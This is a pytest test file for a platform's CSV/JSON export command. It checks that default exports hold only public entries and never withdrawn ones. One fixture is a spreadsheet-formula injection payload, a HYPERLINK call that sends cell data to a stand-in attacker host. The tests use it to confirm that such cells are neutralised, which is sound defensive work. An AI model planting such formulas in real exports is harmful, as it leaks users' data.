"""`pfp export platform`: what the Convention's website gets, and above all what it never gets.

The consent rule is the point: a default export holds public entries only, whatever else States posted,
and a withdrawn entry is never exported at any level. Entries are made through the domain
(bot.platform.post) by registered delegates, on SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import pytest

from bot import cli
from bot.platform.export import COLUMNS, export_platform
from bot.platform.rules import NeedForm, OfferForm, change_status, post
from bot.registration.people import meet
from storage.taxonomy import Area, Challenge, EntryStatus, Kind, Language, Region, Visibility

PROJECT = Path(__file__).resolve().parent.parent

PUBLIC_NEED = "Survey of the eastern provinces"
CHALLENGED_NEED = "Detectors for the border strip"
PUBLIC_OFFER = "Deminer training in Nîmes"
STATES_OFFER = "SECRET-STATES-TITLE mechanical clearance"
STATES_DESCRIPTION = "SECRET-STATES-DESCRIPTION only for States Parties"
ISU_NEED = "SECRET-ISU-TITLE prosthetics workshop"
ISU_DESCRIPTION = "SECRET-ISU-DESCRIPTION confidential to the ISU"
WITHDRAWN_NEED = "SECRET-WITHDRAWN-TITLE old request"
WITHDRAWN_DESCRIPTION = "SECRET-WITHDRAWN-DESCRIPTION"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def need(title: str, visibility: Visibility, *, description: str = "Twelve districts still to survey.",
         **changes) -> NeedForm:
    values = {
        "area": Area.CLEARANCE, "kinds": [Kind.FINANCIAL, Kind.EQUIPMENT], "challenges": [Challenge.FINANCIAL],
        "title": title, "description": description, "amount": Decimal("250000.00"), "currency": "USD",
        "starts_on": datetime(2027, 1, 1).date(), "ends_on": datetime(2027, 12, 31).date(),
        "location": "Eastern provinces", "visibility": visibility, "consent_to_mapping": True, "ownership": [],
        **changes,
    }
    return NeedForm(**values)


def offer(title: str, visibility: Visibility, *, description: str = "Two weeks, twenty trainees.",
          **changes) -> OfferForm:
    values = {
        "kinds": [Kind.EXPERTISE, Kind.KNOW_HOW], "areas": [Area.CLEARANCE, Area.RISK_EDUCATION],
        "regions": [Region.AFRICA], "countries": ["CI", "CO"], "title": title, "description": description,
        "amount": None, "currency": None, "capacity": "20 trainees a year", "languages": [Language.FRENCH,
                                                                                             Language.ENGLISH],
        "starts_on": None, "ends_on": None, "contact": "+41 22 000 00 00", "visibility": visibility,
        **changes,
    }
    return OfferForm(**values)


def delegate(session, slack_user_id: str, state_code: str, clock):
    person = meet(session, slack_user_id, now=clock.now(), fetch_locale=lambda: None)
    person.state_code = state_code
    session.commit()
    return person


@pytest.fixture
def platform(database, clock):
    """Entries at every visibility, from Côte d'Ivoire and France, one of them withdrawn."""
    with database() as session:
        ivorian = delegate(session, "UDELEGCI", "CI", clock)
        french = delegate(session, "UDELEGFR", "FR", clock)
        post(session, ivorian, need(PUBLIC_NEED, Visibility.PUBLIC), now=clock.now())
        post(session, ivorian, need(ISU_NEED, Visibility.ISU, description=ISU_DESCRIPTION), now=clock.now())
        post(session, french, offer(PUBLIC_OFFER, Visibility.PUBLIC), now=clock.now())
        post(session, french, offer(STATES_OFFER, Visibility.STATES, description=STATES_DESCRIPTION),
             now=clock.now())
        withdrawn = post(session, ivorian, need(WITHDRAWN_NEED, Visibility.PUBLIC, description=WITHDRAWN_DESCRIPTION),
                         now=clock.now())
        change_status(session, ivorian, "need", withdrawn.id, EntryStatus.WITHDRAWN, now=clock.now())
        post(session, ivorian, need(FORMULA, Visibility.PUBLIC, description="-1+1", amount=None, currency=None,
                                    location="@home", kinds=[Kind.EQUIPMENT]), now=clock.now())
        session.commit()
    return database


def export(database, clock, fmt: str, visibility: Visibility = Visibility.PUBLIC) -> str:
    with database() as session:
        return export_platform(session, visibility=visibility, fmt=fmt, now=clock.now())


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


SECRETS = (STATES_OFFER, STATES_DESCRIPTION, ISU_NEED, ISU_DESCRIPTION, WITHDRAWN_NEED, WITHDRAWN_DESCRIPTION)


# ------------------------------------------------------------------------------------------- consent


def test_the_default_export_holds_public_entries_only_in_both_formats(platform, clock):
    text_csv, text_json = export(platform, clock, "csv"), export(platform, clock, "json")

    for text in (text_csv, text_json):
        for secret in (*SECRETS, "SECRET"):
            assert secret not in text
    rows = csv_rows(text_csv)
    document = json.loads(text_json)
    assert document["visibility"] == ["public"]
    assert [(row["type"], row["title"]) for row in rows] == [
        ("need", PUBLIC_NEED), ("need", "'" + FORMULA), ("offer", PUBLIC_OFFER)]
    assert [(entry["type"], entry["title"]) for entry in document["entries"]] == [
        ("need", PUBLIC_NEED), ("need", FORMULA), ("offer", PUBLIC_OFFER)]
    assert {row["visibility"] for row in rows} == {entry["visibility"] for entry in document["entries"]} == {"public"}


def test_states_and_isu_levels_widen_the_export_but_never_to_withdrawn_entries(platform, clock):
    states = json.loads(export(platform, clock, "json", Visibility.STATES))
    assert states["visibility"] == ["public", "states"]
    assert {e["title"] for e in states["entries"]} == {PUBLIC_NEED, FORMULA, PUBLIC_OFFER, STATES_OFFER}

    everything = json.loads(export(platform, clock, "json", Visibility.ISU))
    assert everything["visibility"] == ["public", "states", "isu"]
    assert {e["title"] for e in everything["entries"]} == {PUBLIC_NEED, FORMULA, PUBLIC_OFFER, STATES_OFFER, ISU_NEED}
    # Sorted by type, then number.
    keys = [(e["type"], e["number"]) for e in everything["entries"]]
    assert keys == sorted(keys)

    for level in Visibility:
        for fmt in ("csv", "json"):
            text = export(platform, clock, fmt, level)
            assert WITHDRAWN_NEED not in text and WITHDRAWN_DESCRIPTION not in text
            assert "withdrawn" not in text


# --------------------------------------------------------------------------------------------- CSV


def test_csv_has_the_header_country_names_and_lists_joined(platform, clock):
    text = export(platform, clock, "csv", Visibility.STATES)
    assert text.splitlines()[0] == ",".join(COLUMNS)
    rows = {row["title"]: row for row in csv_rows(text)}

    survey = rows[PUBLIC_NEED]
    assert (survey["type"], survey["state_code"], survey["state"]) == ("need", "CI", "Côte d’Ivoire")
    assert (survey["areas"], survey["kinds"], survey["challenges"]) == ("clearance", "financial;equipment", "financial")
    assert (survey["amount"], survey["currency"]) == ("250000.00", "USD")
    assert (survey["starts_on"], survey["ends_on"], survey["location"]) == ("2027-01-01", "2027-12-31",
                                                                           "Eastern provinces")
    assert (survey["regions"], survey["countries"], survey["languages"], survey["contact"]) == ("", "", "", "")
    assert (survey["status"], survey["visibility"], survey["stale"]) == ("open", "public", "no")
    assert survey["posted"] == survey["updated"] == survey["confirmed"] == clock.now().isoformat()

    training = rows[PUBLIC_OFFER]
    assert (training["type"], training["state"]) == ("offer", "France")
    assert (training["areas"], training["kinds"]) == ("clearance;risk_education", "expertise;know_how")
    assert (training["regions"], training["countries"], training["languages"]) == ("africa", "CI;CO", "en;fr")
    assert (training["amount"], training["currency"], training["challenges"], training["location"]) == ("", "", "", "")
    assert training["capacity"] == "20 trainees a year"
    assert training["contact"] == "'+41 22 000 00 00"  # a leading + is a formula too, for a spreadsheet


def test_a_csv_cell_a_spreadsheet_would_evaluate_is_neutralised(platform, clock):
    text = export(platform, clock, "csv")
    [row] = [row for row in csv_rows(text) if "HYPERLINK" in row["title"]]
    assert row["title"] == "'" + FORMULA
    assert (row["description"], row["location"]) == ("'-1+1", "'@home")
    for line in csv_rows(text):
        for cell in line.values():
            assert not cell.startswith(("=", "+", "-", "@")), cell
    # JSON is data, not a spreadsheet: the title is kept as typed.
    [entry] = [e for e in json.loads(export(platform, clock, "json"))["entries"] if "HYPERLINK" in e["title"]]
    assert (entry["title"], entry["amount"], entry["currency"]) == (FORMULA, None, None)


# -------------------------------------------------------------------------------------------- JSON


def test_json_keeps_lists_as_arrays_and_says_when_it_was_made(platform, clock):
    document = json.loads(export(platform, clock, "json"))
    assert document["exported_at"] == clock.now().isoformat()
    entries = {entry["title"]: entry for entry in document["entries"]}
    assert set(entries[PUBLIC_NEED]) == set(COLUMNS)
    assert entries[PUBLIC_NEED]["areas"] == ["clearance"]
    assert entries[PUBLIC_NEED]["kinds"] == ["financial", "equipment"]
    assert entries[PUBLIC_NEED]["amount"] == "250000.00"
    assert entries[PUBLIC_NEED]["state"] == "Côte d’Ivoire"
    assert entries[PUBLIC_NEED]["regions"] == [] and entries[PUBLIC_NEED]["contact"] is None
    assert entries[PUBLIC_OFFER]["countries"] == ["CI", "CO"]
    assert entries[PUBLIC_OFFER]["languages"] == ["en", "fr"]
    assert entries[PUBLIC_OFFER]["challenges"] == [] and entries[PUBLIC_OFFER]["location"] is None
    assert isinstance(entries[PUBLIC_OFFER]["number"], int)
    assert entries[PUBLIC_OFFER]["stale"] is False


def test_an_entry_not_confirmed_for_six_months_is_marked_stale(platform, clock):
    clock.advance(days=200)
    rows = csv_rows(export(platform, clock, "csv"))
    assert rows and {row["stale"] for row in rows} == {"yes"}
    assert {entry["stale"] for entry in json.loads(export(platform, clock, "json"))["entries"]} == {True}


def test_an_unknown_format_is_refused(platform, clock):
    with pytest.raises(ValueError, match="xml"):
        export(platform, clock, "xml")


# --------------------------------------------------------------------------------------------- CLI


def run_pfp(tmp_path: Path, *args: str, database_url: str) -> subprocess.CompletedProcess[str]:
    """The real command in a clean environment: DATABASE_URL and nothing of Slack."""
    basics = ("PATH", "HOME", "SYSTEMROOT", "SYSTEMDRIVE", "TEMP", "TMP", "TMPDIR", "LANG", "LC_ALL")
    env = {name: os.environ[name] for name in basics if name in os.environ}
    env.update(PYTHONPATH=str(PROJECT), DATABASE_URL=database_url)
    return subprocess.run(  # noqa: S603 - our own interpreter and module
        [sys.executable, "-m", "bot.cli", "export", *args], cwd=tmp_path, env=env, capture_output=True,
        encoding="utf-8", timeout=30, check=False,
    )


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_pfp_export_platform_prints_json_with_only_database_url_set(platform, database_url, tmp_path):
    result = run_pfp(tmp_path, "platform", "--format", "json", database_url=database_url)

    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr and result.stderr == ""
    document = json.loads(result.stdout)
    assert document["visibility"] == ["public"]
    assert {entry["title"] for entry in document["entries"]} == {PUBLIC_NEED, FORMULA, PUBLIC_OFFER}
    for secret in SECRETS:
        assert secret not in result.stdout


def test_pfp_export_writes_a_file_at_the_level_asked_and_warns_it_is_not_public(platform, database_url, tmp_path,
                                                                                monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)  # no .env here
    for name in ("SLACK_BOT_TOKEN", "SLACK_SIGNING_SECRET", "PFP_ISU_CHANNEL"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("DATABASE_URL", database_url)

    assert cli.main(["export", "platform", "--format", "csv", "--visibility", "isu", "--output", "out.csv"]) == 0

    out, err = capsys.readouterr()
    assert "wrote 5 entries (csv, visibility: isu) to out.csv" in out
    assert "not public" in err
    titles = {row["title"] for row in csv_rows((tmp_path / "out.csv").read_text(encoding="utf-8"))}
    assert titles == {PUBLIC_NEED, "'" + FORMULA, PUBLIC_OFFER, STATES_OFFER, ISU_NEED}


@pytest.mark.parametrize(
    "args",
    [
        pytest.param(["--format", "xml"], id="bad-format"),
        pytest.param([], id="no-format"),
        pytest.param(["--format", "csv", "--visibility", "bogus"], id="bad-visibility"),
    ],
)
def test_bad_arguments_exit_with_status_2(args, capsys):
    with pytest.raises(SystemExit) as exited:
        cli.main(["export", "platform", *args])
    assert exited.value.code == 2
    assert "pfp export: error:" in capsys.readouterr().err


def test_a_missing_database_file_is_one_line_and_nothing_is_created(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'absent.sqlite3'}")

    assert cli.main(["export", "platform", "--format", "json"]) == 2

    out, err = capsys.readouterr()
    [line] = err.splitlines()
    assert line.startswith("pfp: there is no database file") and "DATABASE_URL" in line
    assert out == "" and not (tmp_path / "absent.sqlite3").exists()


def test_an_empty_database_asks_for_db_upgrade(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "empty.sqlite3").touch()
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'empty.sqlite3'}")

    assert cli.main(["export", "platform", "--format", "csv"]) == 2

    [line] = capsys.readouterr().err.splitlines()
    assert "pfp db upgrade" in line
